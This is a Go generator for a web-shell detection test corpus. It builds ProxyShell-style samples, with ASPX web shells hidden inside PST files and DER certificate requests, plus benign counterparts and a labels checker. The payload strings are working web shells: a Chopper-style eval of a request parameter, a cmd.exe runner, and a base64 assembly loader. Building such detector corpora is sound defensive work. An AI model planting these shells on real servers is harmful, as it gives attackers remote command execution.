// Command gen writes the generated files of the web-shell test corpus (testdata/files-corpus):
// the binary ProxyShell-style samples (a web page inside a PST file or inside a DER certificate
// request), benign PST files, and benign pages carrying large inline base64 images.
//
// Every byte comes from fixed text and a SHA-256 counter stream, so the output is the same on every
// machine and Go version. Run from the repository root:
//
//	go run ./testdata/files-corpus/gen          # (re)write the generated files
//	go run ./testdata/files-corpus/gen -check   # verify them and labels.tsv; exit 1 on any difference
//
// -check also verifies that labels.tsv names exactly the files present under malicious/ and
// benign/, with a valid label and a family and reason on every line, and that no sample exceeds
// the corpus size cap.
package main

import (
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"hash/crc32"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

// maxSample is the size cap for one corpus file.
const maxSample = 64 << 10

func main() {
	check := flag.Bool("check", false, "verify generated files and labels.tsv instead of writing")
	dir := flag.String("dir", "", "corpus folder (default: found from the working directory)")
	flag.Parse()

	root, err := corpusRoot(*dir)
	if err != nil {
		fmt.Fprintln(os.Stderr, "gen:", err)
		os.Exit(2)
	}
	outs := outputs()
	if !*check {
		for _, o := range outs {
			p := filepath.Join(root, filepath.FromSlash(o.path))
			if err := os.WriteFile(p, o.data, 0o644); err != nil {
				fmt.Fprintln(os.Stderr, "gen:", err)
				os.Exit(2)
			}
			fmt.Printf("wrote %s (%d bytes)\n", o.path, len(o.data))
		}
		return
	}
	problems := checkGenerated(root, outs)
	problems = append(problems, checkLabels(root)...)
	if len(problems) > 0 {
		for _, p := range problems {
			fmt.Fprintln(os.Stderr, "check:", p)
		}
		fmt.Fprintf(os.Stderr, "check: %d problem(s)\n", len(problems))
		os.Exit(1)
	}
	fmt.Printf("check: ok (%d generated files match, labels.tsv matches the corpus)\n", len(outs))
}

// corpusRoot finds the corpus folder: -dir, or the working directory when it is the corpus, the
// gen folder, or the repository root.
func corpusRoot(flagDir string) (string, error) {
	if flagDir != "" {
		return flagDir, nil
	}
	for _, c := range []string{".", "..", filepath.Join("testdata", "files-corpus")} {
		if st, err := os.Stat(filepath.Join(c, "labels.tsv")); err == nil && !st.IsDir() {
			if _, err := os.Stat(filepath.Join(c, "gen", "main.go")); err == nil {
				return c, nil
			}
		}
	}
	return "", errors.New("cannot find the corpus folder (holding labels.tsv and gen/); use -dir")
}

type output struct {
	path string // slash-separated, relative to the corpus root
	data []byte
}

func outputs() []output {
	return []output{
		{"malicious/pst-wrapped-01-chopper.aspx", pstWrapped01()},
		{"malicious/pst-wrapped-02-csharp-cmd.aspx", pstWrapped02()},
		{"malicious/pst-wrapped-03-boundary.aspx", pstWrapped03()},
		{"malicious/der-wrapped-01-csr-cn.aspx", derWrapped01()},
		{"malicious/der-wrapped-02-csr-csharp.aspx", derWrapped02()},
		{"benign/pst-01-archive.pst", benignPST01()},
		{"benign/pst-02-html-mail.pst", benignPST02()},
		{"benign/inline-image-01-header-logo.aspx", inlineImage01()},
		{"benign/inline-image-02-newsletter.aspx", inlineImage02()},
		{"benign/inline-image-03-signature.aspx", inlineImage03()},
	}
}

// ---------------------------------------------------------------------------------------------
// Deterministic filler.

// stream returns n pseudo-random bytes: SHA-256(seed || counter) blocks. Stable forever.
func stream(seed string, n int) []byte {
	out := make([]byte, 0, n+sha256.Size)
	var ctr [8]byte
	for i := uint64(0); len(out) < n; i++ {
		binary.BigEndian.PutUint64(ctr[:], i)
		h := sha256.New()
		h.Write([]byte(seed))
		h.Write(ctr[:])
		out = h.Sum(out)
	}
	return out[:n]
}

func utf16le(s string) []byte {
	b := make([]byte, 0, 2*len(s))
	for _, r := range s {
		b = append(b, byte(r), byte(r>>8))
	}
	return b
}

// ---------------------------------------------------------------------------------------------
// PST-like files (MS-PST Unicode header, AMap page, data blocks).

// pstCRC is the MS-PST CRC: the IEEE table, initial value 0, no final inversion.
func pstCRC(p []byte) uint32 {
	var crc uint32
	for _, b := range p {
		crc = crc32.IEEETable[byte(crc)^b] ^ (crc >> 8)
	}
	return crc
}

type pstSpec struct {
	seed    string
	size    int
	crypt   byte // bCryptMethod: 0 none, 1 permute
	strings []string
	// payload is written as is (already "pre-encoded" by the attacker so it reads as plain text
	// in the file) at payloadAt.
	payload   string
	payloadAt int
	// plain is extra unencoded text (benign mail bodies in an unencrypted PST) at plainAt.
	plain   string
	plainAt int
}

func pst(s pstSpec) []byte {
	b := make([]byte, s.size)
	le := binary.LittleEndian
	copy(b[0:], "!BDN")
	copy(b[8:], "SM")
	le.PutUint16(b[10:], 23) // wVer: Unicode
	le.PutUint16(b[12:], 19) // wVerClient
	b[14], b[15] = 0x01, 0x01
	le.PutUint64(b[32:], 0x0000000000000158) // bidNextP
	le.PutUint32(b[40:], 0x0000002d)         // dwUnique
	for i := 0; i < 32; i++ {                // rgnid[]
		le.PutUint32(b[44+4*i:], uint32(0x400+i*0x20))
	}
	// ROOT at 180.
	le.PutUint64(b[184:], uint64(s.size)) // ibFileEof
	le.PutUint64(b[192:], 0x4400)         // ibAMapLast
	le.PutUint64(b[200:], 0x1f00)         // cbAMapFree
	le.PutUint64(b[216:], 0x0000000000000094)
	le.PutUint64(b[224:], 0x0000000000008200) // BREF NBT
	le.PutUint64(b[232:], 0x0000000000000096)
	le.PutUint64(b[240:], 0x0000000000008400) // BREF BBT
	b[248] = 0x02                             // fAMapValid
	for i := 256; i < 512; i++ {              // rgbFM, rgbFP
		b[i] = 0xff
	}
	b[512] = 0x80 // bSentinel
	b[513] = s.crypt
	le.PutUint64(b[516:], 0x0000000000000212) // bidNextB
	le.PutUint32(b[4:], pstCRC(b[8:8+471]))
	le.PutUint32(b[524:], pstCRC(b[8:8+516]))

	// AMap page at 0x4400: allocation bitmap, then the 16-byte page trailer.
	const amap = 0x4400
	for i := 0; i < 40; i++ {
		b[amap+i] = 0xff
	}
	tr := amap + 496
	b[tr], b[tr+1] = 0x84, 0x84 // ptype, ptypeRepeat
	le.PutUint32(b[tr+4:], pstCRC(b[amap:amap+496]))
	le.PutUint64(b[tr+8:], 0x4400)

	// Data blocks: encoded (random-looking) bytes from 0x4600 to the end.
	fill := stream(s.seed, s.size)
	copy(b[0x4600:], fill[0x4600:])
	// Property names and folder names in UTF-16LE, as in real files' name-to-id maps.
	at := 0x4800
	for _, str := range s.strings {
		u := utf16le(str)
		if at+len(u) > len(b) {
			break
		}
		copy(b[at:], u)
		at += len(u) + 96
	}
	if s.plain != "" {
		copy(b[s.plainAt:], s.plain)
	}
	if s.payload != "" {
		copy(b[s.payloadAt:], s.payload)
	}
	return b
}

var pstStrings = []string{
	"Top of Personal Folders", "Search Root", "Deleted Items", "Inbox", "Outbox", "Sent Items",
	"IPM_SUBTREE", "IPM.Note", "IPF.Note", "Drafts", "Calendar", "Contacts",
}

func pstWrapped01() []byte {
	return pst(pstSpec{
		seed: "pst-wrapped-01", size: 24 * 1024, crypt: 1, strings: pstStrings,
		payload:   `<script language="JScript" runat="server">function Page_Load(){eval(Request["ord"],"unsafe");}</script>`,
		payloadAt: 0x5210,
	})
}

func pstWrapped02() []byte {
	return pst(pstSpec{
		seed: "pst-wrapped-02", size: 30 * 1024, crypt: 1, strings: pstStrings[:8],
		payload: "<%@ Page Language=\"C#\" %><%\r\n" +
			"System.Diagnostics.ProcessStartInfo si = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + Request[\"q\"]);\r\n" +
			"si.UseShellExecute = false; si.RedirectStandardOutput = true;\r\n" +
			"Response.Write(System.Diagnostics.Process.Start(si).StandardOutput.ReadToEnd());\r\n%>",
		payloadAt: 0x6a37,
	})
}

// pstWrapped03 puts the page across the 32 KiB boundary, where a reader with a 32 KiB buffer
// sees it in two halves.
func pstWrapped03() []byte {
	const page = `<script language="JScript" runat="server">function Page_Load(){eval(Request.Item["zx"],"unsafe");}</script>`
	return pst(pstSpec{
		seed: "pst-wrapped-03", size: 60 * 1024, crypt: 1, strings: pstStrings,
		payload:   page,
		payloadAt: 32768 - strings.Index(page, "eval(") - 2, // "eval(" straddles the boundary
	})
}

func benignPST01() []byte {
	return pst(pstSpec{
		seed: "benign-pst-01", size: 40 * 1024, crypt: 1, strings: pstStrings,
	})
}

func benignPST02() []byte {
	mail := "From: \"Ana Ruiz\" <ana.ruiz@contoso.com>\r\nTo: <team@contoso.com>\r\n" +
		"Subject: Quarterly report\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
		"<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">" +
		"<style>p{font-family:Calibri,sans-serif;font-size:11pt}</style></head><body>" +
		"<p>Hi all,</p><p>The quarterly report is on the intranet: " +
		"<a href=\"https://intranet.contoso.com/reports/q1.aspx?id=2021-1\">Q1 report</a>. " +
		"Please review the figures before Friday.</p><p>Regards,<br>Ana</p></body></html>\r\n"
	return pst(pstSpec{
		seed: "benign-pst-02", size: 36 * 1024, crypt: 0, strings: pstStrings,
		plain: mail, plainAt: 0x6200,
	})
}

// ---------------------------------------------------------------------------------------------
// DER certificate requests (PKCS#10) with the page text in the subject, as written by
// New-ExchangeCertificate -GenerateRequest -BinaryEncoded -RequestFile <...>.aspx.

func tlv(tag byte, parts ...[]byte) []byte {
	content := bytes.Join(parts, nil)
	n := len(content)
	out := []byte{tag}
	switch {
	case n < 0x80:
		out = append(out, byte(n))
	case n < 0x100:
		out = append(out, 0x81, byte(n))
	case n < 0x10000:
		out = append(out, 0x82, byte(n>>8), byte(n))
	default:
		out = append(out, 0x83, byte(n>>16), byte(n>>8), byte(n))
	}
	return append(out, content...)
}

func seq(p ...[]byte) []byte { return tlv(0x30, p...) }
func set(p ...[]byte) []byte { return tlv(0x31, p...) }

func oid(arcs ...uint64) []byte {
	c := []byte{byte(arcs[0]*40 + arcs[1])}
	for _, a := range arcs[2:] {
		var tmp []byte
		tmp = append(tmp, byte(a&0x7f))
		for a >>= 7; a > 0; a >>= 7 {
			tmp = append(tmp, byte(a&0x7f)|0x80)
		}
		for i := len(tmp) - 1; i >= 0; i-- {
			c = append(c, tmp[i])
		}
	}
	return tlv(0x06, c)
}

func utf8str(s string) []byte   { return tlv(0x0c, []byte(s)) }
func printable(s string) []byte { return tlv(0x13, []byte(s)) }
func ia5(s string) []byte       { return tlv(0x16, []byte(s)) }
func bmp(s string) []byte {
	var b []byte
	for _, r := range s {
		b = append(b, byte(r>>8), byte(r))
	}
	return tlv(0x1e, b)
}
func null() []byte { return []byte{0x05, 0x00} }

func integer(b []byte) []byte {
	if len(b) > 0 && b[0]&0x80 != 0 {
		b = append([]byte{0}, b...)
	}
	return tlv(0x02, b)
}

func rdn(o []byte, v []byte) []byte { return set(seq(o, v)) }

// csr builds a certificate request; the RSA key and signature are random bytes of the right
// shape (the request is structurally valid DER, not a verifiable signature).
func csr(seed string, subject []byte, dnsNames []string) []byte {
	mod := stream(seed+"/modulus", 256)
	mod[0] |= 0x80
	spki := seq(
		seq(oid(1, 2, 840, 113549, 1, 1, 1), null()),
		tlv(0x03, []byte{0}, seq(integer(mod), integer([]byte{0x01, 0x00, 0x01}))),
	)
	var sans [][]byte
	for _, d := range dnsNames {
		sans = append(sans, tlv(0x82, []byte(d)))
	}
	exts := seq(
		seq(oid(2, 5, 29, 17), tlv(0x04, seq(sans...))),
		seq(oid(2, 5, 29, 15), []byte{0x01, 0x01, 0xff}, tlv(0x04, []byte{0x03, 0x02, 0x05, 0xa0})),
		seq(oid(2, 5, 29, 14), tlv(0x04, tlv(0x04, stream(seed+"/ski", 20)))),
	)
	attrs := tlv(0xa0,
		seq(oid(1, 3, 6, 1, 4, 1, 311, 13, 2, 3), set(ia5("10.0.17763.2"))),
		seq(oid(1, 3, 6, 1, 4, 1, 311, 21, 20), set(seq(
			integer([]byte{0x05}), utf8str("EXCH01.corp.contoso.com"),
			utf8str("CORP\\EXCH01$"), utf8str("powershell.exe")))),
		seq(oid(1, 3, 6, 1, 4, 1, 311, 13, 2, 2), set(seq(
			integer([]byte{0x01}),
			bmp("Microsoft RSA SChannel Cryptographic Provider"),
			tlv(0x03, []byte{0x00})))),
		seq(oid(1, 2, 840, 113549, 1, 9, 14), set(exts)),
	)
	info := seq(integer([]byte{0}), subject, spki, attrs)
	sig := stream(seed+"/signature", 256)
	return seq(info,
		seq(oid(1, 2, 840, 113549, 1, 1, 11), null()),
		tlv(0x03, []byte{0}, sig))
}

func derWrapped01() []byte {
	subject := seq(
		rdn(oid(2, 5, 4, 6), printable("US")),
		rdn(oid(2, 5, 4, 10), utf8str("Contoso")),
		rdn(oid(2, 5, 4, 3), utf8str(`<script language="JScript" runat="server">function Page_Load(){eval(Request["ch"],"unsafe");}</script>`)),
	)
	return csr("der-wrapped-01", subject, []string{"mail.contoso.com", "autodiscover.contoso.com"})
}

func derWrapped02() []byte {
	page := `<script runat="server" language="C#">void Page_Load(object s, EventArgs e){` +
		`if(Request.Form["d"]!=null){System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["d"]))` +
		`.CreateInstance("Q").Equals(this);}}</script>`
	subject := seq(
		rdn(oid(2, 5, 4, 6), printable("GB")),
		rdn(oid(2, 5, 4, 11), utf8str(page)),
		rdn(oid(2, 5, 4, 3), utf8str("mail.fabrikam.co.uk")),
	)
	return csr("der-wrapped-02", subject, []string{"mail.fabrikam.co.uk"})
}

// ---------------------------------------------------------------------------------------------
// PNG images (stored, uncompressed deflate blocks: valid and byte-stable) for inline data: URIs.

func pngChunk(typ string, data []byte) []byte {
	var b []byte
	b = binary.BigEndian.AppendUint32(b, uint32(len(data)))
	td := append([]byte(typ), data...)
	b = append(b, td...)
	return binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(td))
}

func adler32(p []byte) uint32 {
	a, b := uint32(1), uint32(0)
	for _, c := range p {
		a = (a + uint32(c)) % 65521
		b = (b + a) % 65521
	}
	return b<<16 | a
}

// pngImage draws a soft gradient with some noise (photo-like), w*h RGB.
func pngImage(seed string, w, h int, r0, g0, b0 int) []byte {
	noise := stream(seed, w*h*3)
	raw := make([]byte, 0, h*(1+w*3))
	for y := 0; y < h; y++ {
		raw = append(raw, 0) // filter: none
		for x := 0; x < w; x++ {
			i := (y*w + x) * 3
			raw = append(raw,
				byte(r0+x*96/w+int(noise[i]&0x1f)),
				byte(g0+y*96/h+int(noise[i+1]&0x1f)),
				byte(b0+(x+y)*48/(w+h)+int(noise[i+2]&0x1f)))
		}
	}
	z := []byte{0x78, 0x01}
	for off := 0; off < len(raw); {
		n := min(len(raw)-off, 65535)
		final := byte(0)
		if off+n == len(raw) {
			final = 1
		}
		z = append(z, final, byte(n), byte(n>>8), byte(^n), byte(^n>>8))
		z = append(z, raw[off:off+n]...)
		off += n
	}
	z = binary.BigEndian.AppendUint32(z, adler32(raw))

	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], uint32(w))
	binary.BigEndian.PutUint32(ihdr[4:], uint32(h))
	ihdr[8], ihdr[9] = 8, 2 // 8-bit RGB
	out := []byte("\x89PNG\r\n\x1a\n")
	out = append(out, pngChunk("IHDR", ihdr)...)
	out = append(out, pngChunk("IDAT", z)...)
	return append(out, pngChunk("IEND", nil)...)
}

func dataURI(png []byte) string {
	return "data:image/png;base64," + base64.StdEncoding.EncodeToString(png)
}

func crlf(s string) []byte { return []byte(strings.ReplaceAll(s, "\n", "\r\n")) }

func inlineImage01() []byte {
	logo := dataURI(pngImage("inline-image-01/logo", 110, 80, 20, 60, 120))
	return crlf(`<%@ Page Language="C#" AutoEventWireup="true" CodeBehind="Default.aspx.cs" Inherits="Contoso.Intranet.Default" %>
<!DOCTYPE html>
<html xmlns="http://www.w3.org/1999/xhtml">
<head runat="server">
    <meta charset="utf-8" />
    <title>Contoso Intranet</title>
    <style type="text/css">
        body { margin: 0; font-family: "Segoe UI", Tahoma, Arial, sans-serif; background: #f3f3f3; }
        .header { height: 96px; background: #ffffff; border-bottom: 1px solid #d0d0d0; }
        .header img { float: left; margin: 8px 16px; height: 80px; }
        .header h1 { font-weight: 300; font-size: 28px; line-height: 96px; margin: 0; color: #333; }
        .content { padding: 24px 32px; }
    </style>
</head>
<body>
    <form id="form1" runat="server">
        <div class="header">
            <img alt="Contoso" src="` + logo + `" />
            <h1>Contoso Intranet</h1>
        </div>
        <div class="content">
            <asp:Label ID="lblWelcome" runat="server" />
            <asp:Repeater ID="rptNews" runat="server">
                <ItemTemplate>
                    <h2><%# Server.HtmlEncode((string)Eval("Title")) %></h2>
                    <p><%# Server.HtmlEncode((string)Eval("Summary")) %></p>
                </ItemTemplate>
            </asp:Repeater>
        </div>
    </form>
</body>
</html>
`)
}

func inlineImage02() []byte {
	a := dataURI(pngImage("inline-image-02/a", 72, 54, 90, 40, 30))
	b := dataURI(pngImage("inline-image-02/b", 72, 54, 10, 90, 60))
	return crlf(`<%@ Page Language="C#" MasterPageFile="~/Site.Master" AutoEventWireup="true" CodeBehind="Newsletter.aspx.cs" Inherits="Contoso.Web.Newsletter" Title="Newsletter" %>
<asp:Content ID="Content1" ContentPlaceHolderID="MainContent" runat="server">
    <table role="presentation" width="600" cellpadding="0" cellspacing="0" style="margin:0 auto;font-family:Arial,sans-serif">
        <tr>
            <td style="padding:12px"><img width="144" height="108" alt="New office" src="` + a + `" /></td>
            <td style="padding:12px;vertical-align:top">
                <h2 style="margin:0 0 8px">Our new office is open</h2>
                <p>The Leeds office opened on Monday. Desks can be booked from the facilities page.</p>
            </td>
        </tr>
        <tr>
            <td style="padding:12px"><img width="144" height="108" alt="Team day" src="` + b + `" /></td>
            <td style="padding:12px;vertical-align:top">
                <h2 style="margin:0 0 8px">Team day photos</h2>
                <p>Thanks to everyone who joined. More photos are on the <a href="Gallery.aspx?album=teamday">gallery page</a>.</p>
            </td>
        </tr>
    </table>
    <asp:HyperLink ID="lnkUnsubscribe" runat="server" NavigateUrl="~/Newsletter/Unsubscribe.aspx">Unsubscribe</asp:HyperLink>
</asp:Content>
`)
}

func inlineImage03() []byte {
	bg := dataURI(pngImage("inline-image-03/bg", 96, 64, 200, 140, 100))
	icon := dataURI(pngImage("inline-image-03/icon", 16, 16, 0, 100, 200))
	return []byte(`<%@ Page Language="C#" AutoEventWireup="true" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        litYear.Text = DateTime.Now.Year.ToString();
    }
</script>
<!DOCTYPE html>
<html>
<head>
<title>Email signature preview</title>
<style>
.sig{width:480px;padding:16px;background:url(` + bg + `) no-repeat right top;border:1px solid #ccc}
.sig .phone{padding-left:20px;background:url(` + icon + `) no-repeat left center}
</style>
</head>
<body>
<div class="sig">
<b>Jordan Lee</b><br/>IT Service Desk, Contoso Ltd<br/>
<span class="phone">+44 20 7946 0000</span><br/>
&copy; <asp:Literal ID="litYear" runat="server" /> Contoso Ltd
</div>
</body>
</html>
`)
}

// ---------------------------------------------------------------------------------------------
// Checks.

func checkGenerated(root string, outs []output) []string {
	var problems []string
	for _, o := range outs {
		got, err := os.ReadFile(filepath.Join(root, filepath.FromSlash(o.path)))
		if err != nil {
			problems = append(problems, fmt.Sprintf("%s: %v", o.path, err))
			continue
		}
		if !bytes.Equal(got, o.data) {
			problems = append(problems, fmt.Sprintf("%s: differs from the generator's output (%d bytes on disk, %d generated); run go run ./testdata/files-corpus/gen", o.path, len(got), len(o.data)))
		}
	}
	return problems
}

var families = map[string]bool{
	"chopper": true, "oab-dump": true, "pst-wrapped": true, "der-wrapped": true,
	"assembly-load": true, "process-start": true, "file-write": true, "obfuscated": true,
	"handler-config": true, "appended-to-legit": true,
}

func checkLabels(root string) []string {
	var problems []string
	present := map[string]bool{}
	for _, top := range []string{"malicious", "benign"} {
		err := filepath.WalkDir(filepath.Join(root, top), func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			if d.IsDir() {
				return nil
			}
			rel, err := filepath.Rel(root, p)
			if err != nil {
				return err
			}
			rel = filepath.ToSlash(rel)
			present[rel] = true
			if info, err := d.Info(); err == nil && info.Size() >= maxSample {
				problems = append(problems, fmt.Sprintf("%s: %d bytes, over the %d-byte cap", rel, info.Size(), maxSample))
			}
			return nil
		})
		if err != nil {
			problems = append(problems, err.Error())
		}
	}

	f, err := os.Open(filepath.Join(root, "labels.tsv"))
	if err != nil {
		return append(problems, err.Error())
	}
	defer f.Close()
	listed := map[string]bool{}
	sc := bufio.NewScanner(f)
	for n := 1; sc.Scan(); n++ {
		line := sc.Text()
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		cols := strings.Split(line, "\t")
		if len(cols) != 4 {
			problems = append(problems, fmt.Sprintf("labels.tsv:%d: %d columns, want 4 (path, label, family, why)", n, len(cols)))
			continue
		}
		path, label, family, why := cols[0], cols[1], cols[2], cols[3]
		if listed[path] {
			problems = append(problems, fmt.Sprintf("labels.tsv:%d: %s listed twice", n, path))
		}
		listed[path] = true
		if !present[path] {
			problems = append(problems, fmt.Sprintf("labels.tsv:%d: %s is not in the corpus", n, path))
		}
		switch {
		case label != "malicious" && label != "benign":
			problems = append(problems, fmt.Sprintf("labels.tsv:%d: label %q, want malicious or benign", n, label))
		case !strings.HasPrefix(path, label+"/"):
			problems = append(problems, fmt.Sprintf("labels.tsv:%d: %s is labelled %s but sits outside %s/", n, path, label, label))
		case label == "malicious" && !families[family]:
			problems = append(problems, fmt.Sprintf("labels.tsv:%d: unknown malicious family %q", n, family))
		case label == "benign" && !strings.HasPrefix(family, "benign-"):
			problems = append(problems, fmt.Sprintf("labels.tsv:%d: benign family %q must start with benign-", n, family))
		}
		if strings.TrimSpace(why) == "" {
			problems = append(problems, fmt.Sprintf("labels.tsv:%d: empty reason", n))
		}
	}
	if err := sc.Err(); err != nil {
		problems = append(problems, err.Error())
	}
	var missing []string
	for p := range present {
		if !listed[p] {
			missing = append(missing, p)
		}
	}
	sort.Strings(missing)
	for _, p := range missing {
		problems = append(problems, fmt.Sprintf("%s: present but not in labels.tsv", p))
	}
	return problems
}
